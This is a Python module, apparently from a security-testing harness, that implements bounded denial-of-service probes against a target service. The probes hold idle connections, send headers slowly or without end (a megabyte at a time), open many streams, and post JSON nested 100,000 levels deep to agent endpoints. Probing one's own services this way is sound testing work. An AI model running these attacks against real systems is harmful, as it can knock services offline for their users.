"""Attacks that exhaust resources, in short and bounded forms."""

import asyncio
import time
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from urllib.parse import urlsplit

import orjson

from casino.attack.attack import attack
from casino.attack.bindings import HEADERS
from casino.attack.connection import Connection
from casino.attack.outcome import Outcome, not_applicable, refused, succeeded
from casino.attack.target import Target
from casino.errors import NoAnswer

_IDLE = 300
_SILENT = 8
_STREAMS = 60
_HEADER_BYTES = 1024 * 1024
_WATCH_S = 14.0
"""Seconds for which a silent connection or an unfinished header is watched."""
_LINE = b"X-Mallory: " + b"m" * 2000 + b"\r\n"
_DEEP = 100_000
_NO_SOCKETS = "there is no network here"
_OK, _FULL = b"HTTP/1.1 200", b"HTTP/1.1 503"


@asynccontextmanager
async def _connections(target: Target, number: int) -> AsyncIterator[list[Connection]]:
    """Yield up to `number` connections to the lobby, as many as it accepts."""
    async with AsyncExitStack() as stack:
        opened: list[Connection] = []
        for _ in range(number):
            try:
                connected = target.traffic.connected(target.lobby.origin)
                opened.append(await stack.enter_async_context(connected))
            except NoAnswer:
                break
        yield opened


def _request(target: Target, path: str) -> bytes:
    """Return the start of a request to the lobby, without the end of its header."""
    host = urlsplit(target.lobby.origin).netloc.encode()
    return b"GET " + path.encode() + b" HTTP/1.1\r\nHost: " + host + b"\r\n"


async def _answer(target: Target) -> bytes:
    """Return the lobby's answer on a new connection, b"" for none."""
    try:
        async with target.traffic.connected(target.lobby.origin) as connection:
            await connection.send(_request(target, "/healthz") + b"\r\n")
            return await connection.hear(5.0) or b""
    except NoAnswer:
        return b""


async def _are_silent(connections: list[Connection], seconds: float) -> int:
    """Return how many connections were neither closed nor answered after a time."""
    received = await asyncio.gather(*(connection.hear(seconds) for connection in connections))
    return sum(data is None for data in received)


@attack("resources", "H6")
async def hold_idle_connections(target: Target) -> Outcome:
    """Open many idle connections from one address, to lock out other clients."""
    if not target.traffic.has_sockets:
        return not_applicable(_NO_SOCKETS)
    async with _connections(target, _IDLE) as opened:
        held = await _are_silent(opened, 1.0)
        answer = await _answer(target)
    if answer.startswith(_OK):
        return refused(f"with {held} of {_IDLE} idle connections the lobby still answers")
    if answer.startswith(_FULL):
        return refused(f"after {held} idle connections the lobby accepts no more of this address")
    return succeeded(f"with {held} idle connections the lobby does not answer")


@attack("resources", "H6", is_slow=True)
async def stay_silent(target: Target) -> Outcome:
    """Open connections without sending anything, to occupy them indefinitely."""
    if not target.traffic.has_sockets:
        return not_applicable(_NO_SOCKETS)
    async with _connections(target, _SILENT) as opened:
        if not opened:
            return not_applicable("the lobby accepts no connection")
        held = await _are_silent(opened, _WATCH_S)
    if held:
        return succeeded(f"{held} of {len(opened)} were still open after {_WATCH_S:.0f} s")
    return refused(f"all of {len(opened)} were closed within {_WATCH_S:.0f} s")


@attack("resources", "H6", is_slow=True)
async def send_slow_header(target: Target) -> Outcome:
    """Send a request's header byte by byte and never end it."""
    if not target.traffic.has_sockets:
        return not_applicable(_NO_SOCKETS)
    async with target.traffic.connected(target.lobby.origin) as connection:
        began = time.monotonic()
        is_taken = await connection.send(_request(target, "/healthz") + b"X-Slow: ")
        while is_taken and time.monotonic() - began < _WATCH_S:
            is_taken = await connection.send(b"m") and await connection.hear(0.5) is None
        if not is_taken:
            return refused(f"the connection was closed after {time.monotonic() - began:.0f} s")
    return succeeded(f"the connection was still open after {_WATCH_S:.0f} s")


@attack("resources", "H7")
async def send_endless_header(target: Target) -> Outcome:
    """Send one request with a megabyte of headers."""
    if not target.traffic.has_sockets:
        return not_applicable(_NO_SOCKETS)
    sent = 0
    async with target.traffic.connected(target.lobby.origin) as connection:
        is_taken = await connection.send(_request(target, "/healthz"))
        while is_taken and sent < _HEADER_BYTES:
            is_taken = await connection.send(_LINE * 16) and await connection.hear(0.01) is None
            sent += 16 * len(_LINE)
        if not is_taken or await connection.hear(1.0) is not None:
            return refused(f"the connection was closed after {sent // 1024} KiB")
    return succeeded(f"the lobby read {sent // 1024} KiB of headers and waits for more")


@attack("resources", "H8")
async def hold_many_streams(target: Target) -> Outcome:
    """Open many streams of the lobby at once from one address."""
    if not target.traffic.has_sockets:
        return not_applicable(_NO_SOCKETS)
    async with _connections(target, _STREAMS) as opened:
        for connection in opened:
            await connection.send(_request(target, "/v1/stream") + b"\r\n")
        heads = await asyncio.gather(*(connection.hear(3.0) for connection in opened))
    streams = sum((head or b"").startswith(_OK) for head in heads)
    if streams == _STREAMS:
        return succeeded(f"all of {_STREAMS} streams of one address were accepted")
    return refused(f"{streams} of {_STREAMS} streams were accepted")


@attack("input", "M12")
async def send_deep_body(target: Target) -> Outcome:
    """Send JSON nested 100,000 levels deep, to get an internal error."""
    deep = b'{"a":' * _DEEP + b"1" + b"}" * _DEEP
    paths = ("/a2a/jsonrpc", "/a2a/rest/message:send")
    faults: list[str] = []
    for agent in target.agents:
        for path in paths:
            try:
                answer = await target.traffic.send(
                    "POST", agent.url(path), headers=HEADERS, content=deep
                )
            except NoAnswer:
                faults.append(f"{agent.name} gave no answer at {path}")
                continue
            faults += _internal_errors(agent.name, answer.status, answer.body)
    if faults:
        return succeeded(faults[0])
    return refused(f"{len(target.agents) * len(paths)} bodies were refused without internal errors")


def _internal_errors(name: str, status: int, body: bytes) -> list[str]:
    if status >= 500:  # noqa: PLR2004  server errors start there
        return [f"{name} answered with HTTP {status}"]
    words = body.lower()
    if b"recursion" in words or b"traceback" in words:
        return [f"{name} answered with a Python traceback"]
    try:
        error = orjson.loads(body).get("error", {})
    except (ValueError, AttributeError):
        return []
    is_internal = isinstance(error, dict) and error.get("code") == -32603  # noqa: PLR2004  JSON-RPC
    return [f"{name} answered with an internal error"] if is_internal else []


ATTACKS = (
    hold_idle_connections,
    stay_silent,
    send_slow_header,
    send_endless_header,
    hold_many_streams,
    send_deep_body,
)
